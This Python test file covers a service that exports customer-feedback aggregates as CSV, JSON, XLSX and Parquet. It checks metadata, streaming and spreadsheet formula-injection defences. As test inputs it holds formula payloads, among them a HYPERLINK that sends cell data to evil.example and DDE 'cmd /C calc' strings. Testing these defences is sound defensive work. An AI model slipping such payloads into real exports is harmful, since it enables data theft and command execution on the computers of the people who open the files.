"""The export in all four formats parses back with its metadata."""
import csv
import io
import json

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from insight_service.services.aggregates.exports import CHUNK_ROWS, export_stream
from insight_service.services.aggregates.pain_points import COLUMNS, aggregate_rows
from tests.services.pain_data import load_pain_points

META = {"taxonomy_version": "2024.1", "k_anonymity": 5, "filters": {"sku": "CM-100"}}


@pytest.fixture
def rows(session, ingest_into):
    """The aggregate of the known data set."""
    load_pain_points(ingest_into)
    return list(aggregate_rows(session, k=5))


def _bytes(rows, fmt):
    return b"".join(export_stream(iter(rows), fmt, META))


def test_csv(rows):
    raw = _bytes(rows, "csv")
    assert raw.startswith(b'# taxonomy_version: "2024.1"\n')
    frame = pd.read_csv(io.BytesIO(raw), comment="#")
    assert list(frame.columns) == list(COLUMNS) and frame.loc[0, "buyers"] == 10
    assert pd.isna(frame.loc[0, "reporting_buyers"])  # 3 buyers reported: fewer than k, not published


def test_json(rows):
    data = json.loads(_bytes(rows, "json"))
    assert data["metadata"] == META and data["rows"][0]["mentions"] == 5


def test_xlsx(rows):
    book = openpyxl.load_workbook(io.BytesIO(_bytes(rows, "xlsx")), read_only=True)
    sheet = list(book["pain_points"].values)
    assert sheet[0] == tuple(COLUMNS) and sheet[1][COLUMNS.index("buyers")] == 10
    assert dict(book["metadata"].values)["taxonomy_version"] == '"2024.1"'


def test_parquet(rows):
    table = pq.read_table(io.BytesIO(_bytes(rows, "parquet")))
    assert table.column_names == list(COLUMNS) and table.column("mentions").to_pylist() == [5]
    assert json.loads(table.schema.metadata[b"insight_service.filters"]) == {"sku": "CM-100"}


def test_empty_exports_are_still_valid():
    assert pd.read_csv(io.BytesIO(_bytes([], "csv")), comment="#").empty
    assert json.loads(_bytes([], "json"))["rows"] == []
    assert pq.read_table(io.BytesIO(_bytes([], "parquet"))).num_rows == 0


# Customer- and CRM-supplied text starting with each character a spreadsheet reads as the start of a formula.
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+31 6 1234 5678", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TEXT_COLUMNS = ("sku", "product_name", "category", "source", "code_label")
HOSTILE_META = {"k_anonymity": 5, "filters": {"sku": "a,=cmd|' /c calc'!A1,", "category": "-1+1"}}


def hostile_rows() -> list[dict]:
    """One aggregate row per dangerous first character, in every text column, with negative sentiment."""
    return [{"period": None, "sku": payload, "product_name": payload, "category": payload, "code": "defect",
             "code_label": payload, "source": payload, "language": "nl", "mentions": 5, "distinct_authors": 5,
             "share_of_product_feedback": 0.5, "average_sentiment": -0.25 - n / 10, "buyers": 10,
             "reporting_buyers": 3, "incidence_among_buyers": 0.3, "quotes": [payload, "kapot"]}
            for n, payload in enumerate(HOSTILE)]


def test_csv_text_cells_cannot_start_a_formula_and_numbers_stay_numbers():
    raw = b"".join(export_stream(iter(hostile_rows()), "csv", HOSTILE_META)).decode()
    meta = [line for line in raw.splitlines() if line.startswith("#")]
    # a spreadsheet splits a '#' line at commas: no piece of it may begin with our data
    assert all(piece.startswith(" ") for line in meta for piece in line.split(",")[1:]), meta
    assert json.loads(meta[1].split(": ", 1)[1]) == HOSTILE_META["filters"]
    records = list(csv.DictReader(io.StringIO("\n".join(line for line in raw.split("\n")
                                                          if not line.startswith("#")))))
    for record, payload in zip(records, HOSTILE, strict=True):
        assert all(record[c] == "'" + payload for c in TEXT_COLUMNS), record
        assert record["quotes"] == f"'{payload} | kapot" and record["code"] == "defect"
        assert float(record["average_sentiment"]) < 0 and not record["average_sentiment"].startswith("'")
    frame = pd.read_csv(io.BytesIO(raw.encode()), comment="#")
    assert frame["average_sentiment"].dtype == float and frame["mentions"].dtype == int



@pytest.mark.parametrize("name", ["Barista\r=cmd|' /C calc'!A0", "Barista\n@SUM(1+1)", "Barista,=1+1"])
def test_a_line_break_or_comma_inside_a_csv_cell_cannot_start_a_new_cell(name):
    row = {**hostile_rows()[0], "product_name": name}
    raw = b"".join(export_stream(iter([row]), "csv", {})).decode()
    assert f'"{name}"' in raw  # quoted, so the CR, LF or comma stays inside the cell
    [record] = csv.DictReader(io.StringIO(raw, newline=""))
    assert record["product_name"] == name

def test_xlsx_text_cells_are_strings_not_formulas_and_numbers_stay_numbers():
    book = openpyxl.load_workbook(io.BytesIO(b"".join(export_stream(iter(hostile_rows()), "xlsx", HOSTILE_META))))
    sheet = book["pain_points"]
    header = [cell.value for cell in sheet[1]]
    for row, payload in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=True):
        cells = dict(zip(header, row))
        inert = "'" + payload.replace("\r", "\n")  # XML reads a CR back as a line feed
        assert all(cells[c].data_type == "s" and cells[c].value == inert for c in TEXT_COLUMNS), payload
        assert cells["quotes"].data_type == "s" and cells["quotes"].value == inert + " | kapot"
        assert cells["average_sentiment"].data_type == "n" and cells["average_sentiment"].value < 0
        assert cells["mentions"].data_type == "n" and cells["mentions"].value == 5
    assert all(cell.data_type == "s" and not cell.value.startswith(("=", "+", "-", "@"))
               for row in book["metadata"].iter_rows() for cell in row)


def test_json_and_parquet_keep_the_text_exact():
    rows = hostile_rows()
    data = json.loads(b"".join(export_stream(iter(rows), "json", HOSTILE_META)))
    assert data["rows"] == rows and data["metadata"] == HOSTILE_META
    table = pq.read_table(io.BytesIO(b"".join(export_stream(iter(rows), "parquet", HOSTILE_META))))
    assert table.column("product_name").to_pylist() == HOSTILE
    assert table.column("average_sentiment").to_pylist() == [r["average_sentiment"] for r in rows]


def _csv_lines(rows) -> list[str]:
    """The raw data lines of a CSV export (metadata and header dropped), split at LF outside quotes."""
    raw = b"".join(export_stream(iter(rows), "csv", {})).decode()
    return [line for line in raw.split("\n")[1:] if line]


def test_csv_numbers_are_written_as_they_are_whatever_the_other_rows_hold():
    """An int column holding a None stays ints (pandas wrote 10.0 then); floats keep their shortest exact form."""
    rows = [{**hostile_rows()[0], "sku": "A", "buyers": 10, "reporting_buyers": None, "incidence_among_buyers": None,
             "share_of_product_feedback": 1.0, "average_sentiment": -0.25},
            {**hostile_rows()[0], "sku": "B", "buyers": None, "reporting_buyers": 7, "incidence_among_buyers": 0.1234,
             "share_of_product_feedback": None, "average_sentiment": -1e-05}]
    first, second = _csv_lines(rows)
    assert first.endswith(',"nl",5,5,1.0,-0.25,10,,,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik"") | kapot"')
    assert ',"nl",5,5,,-1e-05,,7,0.1234,' in second
    frame = pd.read_csv(io.StringIO("\n".join([",".join(COLUMNS), first, second])))
    assert frame["average_sentiment"].tolist() == [-0.25, -1e-05] and frame["mentions"].dtype == int


def test_csv_missing_is_an_empty_unquoted_field_and_empty_text_is_quoted():
    """A reader that tells NULL from '' (PostgreSQL COPY ... CSV) reads None back as missing, [] as empty text."""
    row = {**hostile_rows()[0], "period": None, "category": None, "buyers": None, "quotes": []}
    [line] = _csv_lines([row])
    assert line.startswith(",\"'=HYPERLINK(") and line.endswith(',5,5,0.5,-0.25,,3,0.3,""')
    [record] = csv.reader(io.StringIO(line))
    assert record[COLUMNS.index("category")] == "" and record[COLUMNS.index("code")] == "defect"


def test_csv_quotes_keep_separators_quotes_and_line_breaks_inside_their_cell():
    quotes = ['lekt, "heel" erg\nna=2 dagen;', "=kapot\r\nweer"]
    row = {**hostile_rows()[0], "product_name": "Barista", "quotes": quotes}
    raw = b"".join(export_stream(iter([row]), "csv", {})).decode()
    [record] = csv.DictReader(io.StringIO(raw, newline=""))
    # only a cell's start can start a formula: the second quote is inside the joined cell
    assert record["quotes"] == " | ".join(quotes) and record["product_name"] == "Barista"
    row["quotes"] = list(reversed(quotes))
    [record] = csv.DictReader(io.StringIO(b"".join(export_stream(iter([row]), "csv", {})).decode(), newline=""))
    assert record["quotes"] == "'" + " | ".join(reversed(quotes))


def test_csv_header_is_the_same_with_and_without_rows():
    header = b"".join(export_stream(iter([]), "csv", {})).decode()
    assert header == ",".join(f'"{c}"' for c in COLUMNS) + "\n"
    assert b"".join(export_stream(iter(hostile_rows()), "csv", {})).decode().startswith(header)


def test_csv_yields_each_chunk_before_reading_the_next():
    """Memory holds one chunk of rows and its text: the first chunk is out before row CHUNK_ROWS + 2 is read."""
    taken = []

    def rows():
        for n in range(2 * CHUNK_ROWS + 1):
            taken.append(n)
            yield {**hostile_rows()[0], "mentions": n + 5}

    stream = export_stream(rows(), "csv", META)
    assert next(stream).startswith(b"# taxonomy_version")
    first = next(stream)
    assert len(taken) <= CHUNK_ROWS + 1 and first.count(b"\n") == CHUNK_ROWS + 1  # header + one chunk
    assert sum(1 for _ in stream) == 2 and len(taken) == 2 * CHUNK_ROWS + 1


def test_xlsx_ints_stay_ints_beside_a_missing_value():
    rows = [{**hostile_rows()[0], "buyers": 10}, {**hostile_rows()[0], "buyers": None, "incidence_among_buyers": None}]
    sheet = list(openpyxl.load_workbook(io.BytesIO(_bytes(rows, "xlsx")), read_only=True)["pain_points"].values)
    buyers, incidence = COLUMNS.index("buyers"), COLUMNS.index("incidence_among_buyers")
    assert [row[buyers] for row in sheet[1:]] == [10, None] and type(sheet[1][buyers]) is int
    assert sheet[2][incidence] is None and sheet[1][COLUMNS.index("average_sentiment")] == -0.25
